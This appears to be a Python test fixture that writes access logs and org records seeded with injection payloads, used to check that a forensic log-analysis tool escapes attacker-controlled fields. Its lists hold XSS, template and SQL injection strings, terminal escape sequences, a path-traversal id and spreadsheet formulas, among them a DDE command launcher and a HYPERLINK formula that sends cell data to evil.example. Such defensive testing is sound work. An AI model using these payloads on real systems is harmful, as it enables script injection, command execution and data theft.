"""Hostile strings, and logs and records that carry them into a forensic database.

Every log field is attacker-controlled, and so, through sign-up forms, are an org's
name, slug and contact email. ``write_world(directory)`` writes records, an
incident and two logs (combined and jsonl) in which each payload below is a user
agent, a path under an in-scope org route and a referer. Each payload's signature
reaches acme (101) and the hostile org 9001, so it is cross-tenant and both orgs end
exposed, listed in the notification CSV with the other hostile orgs.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

# --- the payloads -------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<x onmouseover=alert(1)>hover",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
BREAKOUTS = [
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    '";alert(1);//',
    "`-alert(1)-`",
]
TEMPLATES = [
    "{{7*7}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ config.items() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;pwned title\x07",
    "\x1b[2J\x1b[Hscreen cleared",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "nul\x00byte",
    "bell\x07 back\x08space vt\x0b ff\x0c",
    "cr\roverwrite",
    "\x9b31mC1 CSI\x9b0m",
    "del\x7f",
    "admin\u202etxt.exe",
    "zero\u200bwidth\u200c\u200djoiner\ufeffbom",
    "\u2066isolate\u2069",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
]
SQL = [
    "' or 1=1 --",
    "1; drop table requests; --",
    '" or ""="',
    "' union select sql from sqlite_master --",
]
JSON_BREAKERS = [
    "</script>",
    "</script><script>alert(1)</script>",
    "line\u2028sep\u2029para",
    '\\"}]},{"x":"',
    "]]>",
]
BIG = "A" * 100_000 + "<script>alert('big')</script>"

#: Text payloads: each is a user agent, a path segment and a referer.
PAYLOADS: list[str] = XSS + URLS + BREAKOUTS + TEMPLATES + CONTROLS + FORMULAS + SQL + JSON_BREAKERS + [BIG]

#: Invalid UTF-8, written as raw bytes into the combined log.
INVALID_UTF8 = [b"bad\xff\xfeutf8", b"\xc0\xafoverlong", b"\xed\xa0\x80surrogate", b"cut\xe2\x82"]

#: Payload markup a page must never contain unescaped (an onerror= attribute inside a
#: real tag is caught by the tests' HTML parser; as escaped text it is harmless).
RAW_MARKUP = [
    "<script>alert", "<SCRIPT>alert", "<ScRiPt", "<svg onload", "<svg/onload", "<img src=x onerror",
    "<IMG SRC=x OnError", "<body onload", "<details open ontoggle", "<x onmouseover", "<iframe src=javascript",
    "<b>x</b>",
]

ORG_PATH = "/api/0/organizations/{slug}/"

# --- hostile records ------------------------------------------------------------

HOSTILE_ORGS = [
    {
        "id": "9001",
        "slug": "=cmd|'calc'!A0",  # a slug routes only without "/"
        "name": "=cmd|' /C calc'!A0",
        "created_at": "2019-01-01T00:00:00Z",
        "contact_email": "@SUM(1)+cmd@evil.example",
    },
    {
        "id": "9002",
        "slug": "+cmd-slug",
        "name": "<b>x</b><script>alert('org')</script>",
        "created_at": "2019-01-01T00:00:00Z",
        "contact_email": "-2+3@evil.example",
    },
    {
        "id": "9003",
        "slug": "\x1b[31mred\x1b[0m\u202eslug",
        "name": "\x1b]0;pwned\x07 Org",
        "created_at": "2019-01-01T00:00:00Z",
        "contact_email": '=HYPERLINK("http://evil.example","click")',
    },
]
HOSTILE_INTEGRATIONS = [
    {"id": str(9100 + i), "org_id": org["id"], "name": "<i>bot</i>", "created_at": "2019-01-01T00:00:00Z"}
    for i, org in enumerate(HOSTILE_ORGS)
]

INCIDENT = """\
name = "Hostile strings"
introduced_at = "2020-07-01T00:00:00Z"
patched_at = "2020-07-20T14:04:00Z"
scope_paths = ['^/api/0/']
org_routes = ['^/api/0/organizations/(?P<org>[^/]+)/']
require_integration = true
"""

JSONL_IP = "198.18.0.{}"
COMBINED_IP = "198.18.1.{}"
INVALID_IP = "198.18.2.{}"


def _ts(i: int, second: int = 0) -> str:
    return f"2020-07-10T{10 + i // 60:02d}:{i % 60:02d}:{second:02d}+00:00"


def _time_local(i: int, second: int = 0) -> str:
    return f"11/Jul/2020:{10 + i // 60:02d}:{i % 60:02d}:{second:02d} +0000"


def jsonl_lines() -> list[str]:
    """Each payload as UA, path and referer, to acme and to org 9001; a few to 9002 and 9003."""
    lines = []
    for i, payload in enumerate(PAYLOADS):
        slugs = ["acme", HOSTILE_ORGS[0]["slug"]]
        if i % 10 == 0:
            slugs.append(HOSTILE_ORGS[1]["slug"])
        if i % 15 == 0:
            slugs.append(HOSTILE_ORGS[2]["slug"])
        for n, slug in enumerate(slugs):
            record = {
                "time_iso8601": _ts(i, n),
                "remote_addr": JSONL_IP.format(i + 1),
                "request_method": "GET",
                "request_uri": ORG_PATH.format(slug=slug) + payload,
                "status": 200,
                "body_bytes_sent": 100,
                "http_referer": payload,
                "http_user_agent": payload,
                "host": "sentry.example.com",
            }
            lines.append(json.dumps(record))  # ASCII: controls travel as \u escapes
    # Attacker-chosen org ids in the log itself.
    for i, org_id in enumerate(["<script>alert('id')</script>", "=1+1", "../../etc/passwd"]):
        lines.append(
            json.dumps(
                {
                    "time_iso8601": _ts(i),
                    "remote_addr": "198.18.3.1",
                    "request_uri": ORG_PATH.format(slug="acme") + "issues/",
                    "status": 200,
                    "http_user_agent": "org-id-prober",
                    "org_id": org_id,
                }
            )
        )
    return lines


def _quoted(value: bytes) -> bytes:
    """A combined-log quoted field: quote, backslash, line breaks and NUL escaped as Apache does.

    Other controls stay raw bytes (a server that does not escape them); a raw NUL
    would make the importer refuse the file as binary, which is its own test.
    """
    for raw, escaped in ((b"\\", b"\\\\"), (b'"', b'\\"'), (b"\n", b"\\n"), (b"\r", b"\\r"), (b"\0", b"\\x00")):
        value = value.replace(raw, escaped)
    return value


def combined_lines() -> list[bytes]:
    """Each payload (and each invalid UTF-8 string) as UA, path and referer, in raw bytes."""
    lines = []
    values = [p.encode("utf-8") for p in PAYLOADS] + INVALID_UTF8
    for i, value in enumerate(values):
        ip = (COMBINED_IP if i < len(PAYLOADS) else INVALID_IP).format(i + 1)
        for n, slug in enumerate(["acme", HOSTILE_ORGS[0]["slug"]]):
            path = ORG_PATH.format(slug=slug).encode("utf-8") + value
            lines.append(
                ip.encode()
                + b" - - ["
                + _time_local(i, n).encode()
                + b'] "GET '
                + _quoted(path)
                + b' HTTP/1.1" 200 100 "'
                + _quoted(value)
                + b'" "'
                + _quoted(value)
                + b'"'
            )
    return lines


def _write_csv(path: Path, rows: list[dict]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def write_world(directory: Path) -> dict[str, Path]:
    """Write the hostile records, incident and logs into directory; their paths by role."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    files = {
        "orgs": directory / "hostile-orgs.jsonl",
        "integrations": directory / "hostile-integrations.csv",
        "incident": directory / "incident.toml",
        "combined": directory / "hostile-combined.log",
        "jsonl": directory / "hostile.jsonl",
    }
    # JSON lines keep the controls in the org records exactly (CSV would need quoting).
    files["orgs"].write_text("".join(json.dumps(o) + "\n" for o in HOSTILE_ORGS), encoding="utf-8")
    _write_csv(files["integrations"], HOSTILE_INTEGRATIONS)
    files["incident"].write_text(INCIDENT, encoding="utf-8")
    files["combined"].write_bytes(b"\n".join(combined_lines()) + b"\n")
    files["jsonl"].write_text("\n".join(jsonl_lines()) + "\n", encoding="utf-8")
    return files
